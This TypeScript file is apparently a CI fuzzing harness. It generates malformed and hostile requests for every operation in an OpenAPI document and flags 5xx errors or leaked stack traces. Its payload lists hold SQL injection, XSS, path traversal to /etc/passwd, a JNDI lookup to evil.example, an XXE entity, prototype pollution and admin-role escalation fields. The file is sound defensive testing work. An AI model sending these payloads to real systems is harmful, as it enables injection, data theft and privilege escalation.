/**
 * Bad input generated from the OpenAPI document itself (issue 13 "Proof in CI"): for every
 * operation, a valid-looking base request (from the schemas, with real ids where the parameter's
 * name says which resource it is) and the mutations of it that a hostile or broken client sends.
 */

export type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  default?: unknown;
  additionalProperties?: boolean | JsonSchema;
};

export interface OpenApiDocument {
  paths: Record<string, Record<string, Operation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

export interface Operation {
  security?: unknown[];
  parameters?: { name: string; in: "path" | "query" | "header" | "cookie"; required?: boolean; schema?: JsonSchema }[];
  requestBody?: { required?: boolean; content: Record<string, { schema?: JsonSchema }> };
}

export interface OperationRef {
  method: string;
  path: string;
  op: Operation;
}

const METHODS = ["get", "post", "put", "patch", "delete"];

export function operationsOf(doc: OpenApiDocument): OperationRef[] {
  const out: OperationRef[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const method of METHODS) {
      const op = item[method];
      if (op) out.push({ method, path, op });
    }
  }
  return out;
}

export const opKey = (o: { method: string; path: string }) => `${o.method.toUpperCase()} ${o.path}`;

/** Follows local `$ref`s and merges `allOf`. */
export function resolve(doc: OpenApiDocument, schema: JsonSchema | undefined): JsonSchema {
  let s = schema ?? {};
  for (let i = 0; s.$ref && i < 20; i++) {
    const name = s.$ref.replace("#/components/schemas/", "");
    s = doc.components?.schemas?.[name] ?? {};
  }
  if (s.allOf) {
    return s.allOf.map((x) => resolve(doc, x)).reduce<JsonSchema>(
      (acc, x) => ({ ...acc, ...x, properties: { ...acc.properties, ...x.properties }, required: [...(acc.required ?? []), ...(x.required ?? [])] }),
      {},
    );
  }
  return s;
}

/** The resource ids of the test world; a parameter or field named like one of these gets a real id. */
export type IdLookup = (name: string, path: string) => string | undefined;

const KNOWN_PATTERNS: [RegExp, (name: string) => string][] = [
  [/^\^\(\[01\]/, () => "09:00"],
  [/^\^\\d\{4\}-/, () => new Date().toISOString().slice(0, 10)],
  [/\{43\}\$$/, () => `${"a".repeat(16)}.${"b".repeat(43)}`],
  [/\{16,128\}|\{8,64\}/, () => "abcdefghijklmnopqrstuvwx"],
  [/^\^\[A-Za-z\]\{2\}\$$/, () => "GB"],
  [/\\d\{1,2\}/, () => "51.5074,-0.1278"],
];

function typeOf(s: JsonSchema): string | undefined {
  if (Array.isArray(s.type)) return s.type.find((t) => t !== "null");
  return s.type;
}

/** A plausible valid value of `schema` (required properties only, unless `full`). */
export function example(doc: OpenApiDocument, schema: JsonSchema | undefined, name: string, path: string, ids: IdLookup, depth = 0, full = false): unknown {
  const s = resolve(doc, schema);
  if (depth > 8) return null;
  if (s.const !== undefined) return s.const;
  if (s.enum?.length) return s.enum[0];
  const alt = s.anyOf ?? s.oneOf;
  if (alt?.length) return example(doc, alt.find((a) => resolve(doc, a).type !== "null") ?? alt[0], name, path, ids, depth + 1, full);
  if (s.default !== undefined && !full) return s.default;
  switch (typeOf(s)) {
    case "object": {
      const out: Record<string, unknown> = {};
      for (const [key, prop] of Object.entries(s.properties ?? {})) {
        if (full || s.required?.includes(key)) out[key] = example(doc, prop, key, path, ids, depth + 1, full);
      }
      return out;
    }
    case "array": {
      const n = Math.max(s.minItems ?? 0, 1);
      const singular = name.endsWith("s") ? name.slice(0, -1) : name;
      return Array.from({ length: n }, () => example(doc, s.items, singular, path, ids, depth + 1, full));
    }
    case "integer":
    case "number": {
      if (/^lat/i.test(name)) return 51.5;
      if (/^(lng|lon)/i.test(name)) return -0.12;
      const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : undefined);
      if (min !== undefined) return s.maximum !== undefined ? Math.min(Math.max(min, 1), s.maximum) : Math.max(min, 1);
      return s.maximum !== undefined ? Math.min(1, s.maximum) : 1;
    }
    case "boolean":
      return true;
    case "string": {
      const id = ids(name, path);
      if (id) return id;
      // A date range's ends (checked by a refinement, so the document shows no pattern).
      if (/^(from|to)$/.test(name) && !s.format) return new Date().toISOString().slice(0, 10);
      if (s.format === "uuid") return "00000000-0000-4000-8000-000000000000";
      if (s.format === "email" || /email/i.test(name)) return "fuzz-target@example.com";
      if (s.format === "date-time") return new Date().toISOString();
      if (s.format === "uri" || /url$/i.test(name)) return "http://localhost:3000/";
      if (s.pattern) {
        const known = KNOWN_PATTERNS.find(([re]) => re.test(s.pattern!));
        if (known) return known[1](name);
      }
      if (/password/i.test(name)) return "Str0ng!Pass";
      const len = Math.max(s.minLength ?? 1, 5);
      return "fuzz-".padEnd(s.maxLength !== undefined ? Math.min(len, s.maxLength) : len, "x");
    }
    default:
      return "x";
  }
}

/** A JSON token JSON.stringify cannot write (1e999, NaN…): a marker string replaced in the text. */
const RAW = (token: string) => `\u0001RAW:${token}\u0001`;
export function stringifyWithRaw(value: unknown): string {
  return JSON.stringify(value).replace(/"\\u0001RAW:([^\\]*)\\u0001"/g, "$1");
}

export const MEGABYTE = "a".repeat(1024 * 1024);

/** Hostile strings: unicode tricks, NUL, injections, traversal, template and JNDI lookups. */
export const BAD_STRINGS: Record<string, string> = {
  empty: "",
  spaces: "   ",
  rtl: "\u202Eevil.exe\u202D\u200F",
  emoji: "🚚💥👩‍👩‍👧‍👦🏳️‍🌈",
  combining: "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309",
  nul: "a\u0000b\u0000",
  lone_surrogate: "\ud800x",
  sql: "' OR 1=1--",
  sql_union: "1; DROP TABLE users; --",
  script: "<script>alert(1)</script><img src=x onerror=alert(1)>",
  traversal: "../../etc/passwd",
  jndi: "${jndi:ldap://evil.example/a}",
  template: "{{7*7}}${7*7}<%= 7*7 %>",
  not_uuid: "not-a-uuid",
  percent: "%00%2e%2e%2f%ff",
  long: "x".repeat(70_000),
};

/** Values of the wrong type or out of range for any field (JSON bodies). */
export function badValues(otherTenantId: string): Record<string, unknown> {
  return {
    ...BAD_STRINGS,
    megabyte: MEGABYTE,
    other_tenant_id: otherTenantId,
    null: null,
    true: true,
    zero: 0,
    neg_zero: RAW("-0"),
    negative: -1,
    fraction: 0.5,
    huge: 1e308,
    unsafe_int: RAW("123456789012345678901234567890"),
    inf: RAW("1e999"),
    neg_inf: RAW("-1e999"),
    object: { a: 1 },
    array: [],
    array_of_objects: [{}],
    nested: [[[[[{ $gt: "" }]]]]],
    proto: JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}'),
  };
}

/** Query or path values (always strings on the wire). */
export function badParamValues(otherTenantId: string, pathParam: boolean): Record<string, string> {
  return {
    ...BAD_STRINGS,
    ...(pathParam ? { megabyte_64k: "b".repeat(64 * 1024) } : { megabyte: MEGABYTE }),
    other_tenant_id: otherTenantId,
    random_uuid: "6f1d2f4e-1111-4222-8333-944455556666",
    nil_uuid: "00000000-0000-0000-0000-000000000000",
    upper_uuid: otherTenantId.toUpperCase(),
    nan: "NaN",
    inf: "1e999",
    neg_zero: "-0",
    negative: "-1",
    huge: "99999999999999999999999",
    float: "1.5",
    hex: "0x10",
    bool: "true",
    json: '{"a":1}',
    array: "[]",
  };
}

export interface FuzzRequest {
  label: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | FormData | undefined;
}

/** Percent-encodes a path segment; a lone surrogate becomes bytes that are not UTF-8 (%ED%A0%80). */
function encodeSegment(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return encodeURIComponent(value.replace(/[\ud800-\udfff]/g, "")) + "%ED%A0%80";
  }
}

function fillPath(template: string, values: Record<string, string>): string {
  return template.replace(/\{([^}]+)\}/g, (_, name: string) => encodeSegment(values[name] ?? "x"));
}

function queryString(values: Record<string, string | string[]>): string {
  const params = new URLSearchParams();
  for (const [k, v] of Object.entries(values)) for (const x of Array.isArray(v) ? v : [v]) params.append(k, x);
  const s = params.toString();
  return s ? `?${s}` : "";
}

/** Every bad request for one operation: path, query and body mutations, bodies of the wrong shape and type. */
export function fuzzRequests(doc: OpenApiDocument, ref: OperationRef, ids: IdLookup, otherTenantId: string): FuzzRequest[] {
  const { op, method, path } = ref;
  const params = op.parameters ?? [];
  const pathParams = params.filter((p) => p.in === "path");
  const queryParams = params.filter((p) => p.in === "query");
  const basePath: Record<string, string> = {};
  for (const p of pathParams) basePath[p.name] = String(example(doc, p.schema, p.name, path, ids));
  const baseQuery: Record<string, string> = {};
  for (const p of queryParams) if (p.required) baseQuery[p.name] = String(example(doc, p.schema, p.name, path, ids));

  const jsonContent = op.requestBody?.content["application/json"];
  const multipart = op.requestBody?.content["multipart/form-data"];
  const bodySchema = resolve(doc, jsonContent?.schema ?? multipart?.schema);
  const baseBody = jsonContent ? example(doc, jsonContent.schema, "body", path, ids) : undefined;

  const out: FuzzRequest[] = [];
  const push = (label: string, pathValues: Record<string, string>, query: Record<string, string | string[]>, body?: { text?: string; form?: FormData; type?: string | null }) => {
    const headers: Record<string, string> = {};
    let payload: string | FormData | undefined;
    if (body?.form) payload = body.form;
    else if (body?.text !== undefined) {
      payload = body.text;
      if (body.type !== null) headers["content-type"] = body.type ?? "application/json";
    } else if (jsonContent && baseBody !== undefined) {
      payload = stringifyWithRaw(baseBody);
      headers["content-type"] = "application/json";
    }
    out.push({ label, method: method.toUpperCase(), path: fillPath(path, pathValues) + queryString(query), headers, body: payload });
  };

  push("base", basePath, baseQuery);

  for (const p of pathParams) {
    for (const [name, value] of Object.entries(badParamValues(otherTenantId, true))) {
      push(`path ${p.name}=${name}`, { ...basePath, [p.name]: value }, baseQuery);
    }
  }
  for (const p of queryParams) {
    for (const [name, value] of Object.entries(badParamValues(otherTenantId, false))) {
      push(`query ${p.name}=${name}`, basePath, { ...baseQuery, [p.name]: value });
    }
    push(`query ${p.name} repeated`, basePath, { ...baseQuery, [p.name]: ["1", "2"] });
    if (p.required) {
      const { [p.name]: _missing, ...rest } = baseQuery;
      push(`query ${p.name} missing`, basePath, rest);
    }
  }
  push("query extra", basePath, { ...baseQuery, extra: "1", __proto__x: "y" });

  if (jsonContent || (op.requestBody && !multipart)) {
    const bad = badValues(otherTenantId);
    const object = (baseBody && typeof baseBody === "object" && !Array.isArray(baseBody) ? baseBody : {}) as Record<string, unknown>;
    const full = jsonContent ? (example(doc, jsonContent.schema, "body", path, ids, 0, true) as Record<string, unknown>) : {};
    const fields = Object.keys(bodySchema.properties ?? {});
    for (const field of fields) {
      for (const [name, value] of Object.entries(bad)) {
        push(`body ${field}=${name}`, basePath, baseQuery, { text: stringifyWithRaw({ ...object, [field]: value }) });
      }
      // One level deeper: each property of an object field, and the first item of an array field.
      const child = full && typeof full === "object" ? full[field] : undefined;
      const nested = Array.isArray(child) ? child[0] : child;
      if (nested && typeof nested === "object" && !Array.isArray(nested)) {
        for (const key of Object.keys(nested)) {
          for (const name of ["megabyte", "nul", "inf", "neg_zero", "null", "object", "sql", "other_tenant_id"]) {
            const inner = { ...(nested as Record<string, unknown>), [key]: bad[name] };
            push(`body ${field}.${key}=${name}`, basePath, baseQuery, { text: stringifyWithRaw({ ...full, [field]: Array.isArray(child) ? [inner] : inner }) });
          }
        }
      }
      if (bodySchema.required?.includes(field)) {
        const { [field]: _missing, ...rest } = object;
        push(`body ${field} missing`, basePath, baseQuery, { text: JSON.stringify(rest) });
      }
    }
    push("body all optional fields", basePath, baseQuery, { text: stringifyWithRaw(full) });
    push("body extra fields", basePath, baseQuery, { text: stringifyWithRaw({ ...object, extra: "x", isAdmin: true, role: "super_admin", userId: otherTenantId, teamId: otherTenantId }) });
    const wholeBodies: Record<string, string> = {
      empty_object: "{}",
      array: "[]",
      array_of_body: JSON.stringify([object]),
      null: "null",
      string: '"body"',
      number: "42",
      inf: "1e999",
      nan: "NaN",
      invalid_json: '{"a":',
      trailing_garbage: `${JSON.stringify(object)} trailing`,
      nul_json: '{"\u0000":"\u0000"}',
      deep_nesting: "[".repeat(5000) + "]".repeat(5000),
      bom: `\ufeff${JSON.stringify(object)}`,
      megabyte_string: JSON.stringify(MEGABYTE),
    };
    for (const [name, text] of Object.entries(wholeBodies)) push(`whole body ${name}`, basePath, baseQuery, { text });
    push("empty body", basePath, baseQuery, { text: "" });
    push("no content-type", basePath, baseQuery, { text: JSON.stringify(object), type: null });
    push("text/plain", basePath, baseQuery, { text: JSON.stringify(object), type: "text/plain" });
    push("form-urlencoded", basePath, baseQuery, { text: "a=1&b=%00", type: "application/x-www-form-urlencoded" });
    push("xml", basePath, baseQuery, { text: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', type: "application/xml" });
    push("json charset", basePath, baseQuery, { text: JSON.stringify(object), type: "application/json; charset=utf-16" });
    const form = new FormData();
    form.append("a", "1");
    push("multipart instead of json", basePath, baseQuery, { form });
  }

  if (multipart) {
    const forms: Record<string, () => FormData> = {
      empty: () => new FormData(),
      text_as_file: () => form({ photo: "not a file", signature: "not a file" }),
      bad_file: () => form({ photo: new File([new Uint8Array([0xff, 0xd8, 0, 0])], "x.jpg", { type: "image/jpeg" }) }),
      script_file: () => form({ photo: new File(["<script>alert(1)</script>"], "../../x.png", { type: "image/png" }) }),
      signature_not_png: () => form({ signature: new File([MEGABYTE], "s.png", { type: "image/png" }) }),
      megabyte_fields: () => form({ recipient: MEGABYTE, clientEventId: MEGABYTE }),
      unicode_fields: () => form({ recipient: BAD_STRINGS.rtl! + BAD_STRINGS.nul!, clientEventId: BAD_STRINGS.sql! }),
      many_photos: () => {
        const f = new FormData();
        for (let i = 0; i < 6; i++) f.append("photo", new File([new Uint8Array([0x89, 0x50, 0x4e, 0x47])], `p${i}.png`, { type: "image/png" }));
        return f;
      },
    };
    for (const [name, make] of Object.entries(forms)) push(`multipart ${name}`, basePath, baseQuery, { form: make() });
    push("json instead of multipart", basePath, baseQuery, { text: "{}" });
    push("multipart without boundary", basePath, baseQuery, { text: "--x\r\n", type: "multipart/form-data" });
    push("multipart broken boundary", basePath, baseQuery, { text: "--x\r\nContent-Disposition: form-data; name=\"photo\"\r\n\r\nabc", type: "multipart/form-data; boundary=x" });
  }
  return out;
}

function form(fields: Record<string, string | File>): FormData {
  const f = new FormData();
  for (const [k, v] of Object.entries(fields)) f.append(k, v);
  return f;
}

/** What must hold for every response: no 5xx; a 4xx is JSON with a non-empty message; no stack trace anywhere. */
export function problemWith(status: number, contentType: string, text: string, authStyle: boolean): string | undefined {
  if (status >= 500) return `status ${status}`;
  if (/\n\s+at .+:\d+:\d+/.test(text) || /(\/work\/|node_modules\/|file:\/\/\/|\.ts:\d+:\d+)/.test(text)) return "stack trace or file path in the body";
  if (status >= 400) {
    if (!/json/.test(contentType)) return `4xx without JSON (${contentType})`;
    let parsed: unknown;
    try {
      parsed = JSON.parse(text);
    } catch {
      return "4xx body is not JSON";
    }
    const body = parsed as { error?: { message?: unknown }; message?: unknown };
    const message = body.error?.message ?? (authStyle ? body.message : undefined);
    if (typeof message !== "string" || message.trim() === "") return "4xx without error.message";
  }
  return undefined;
}
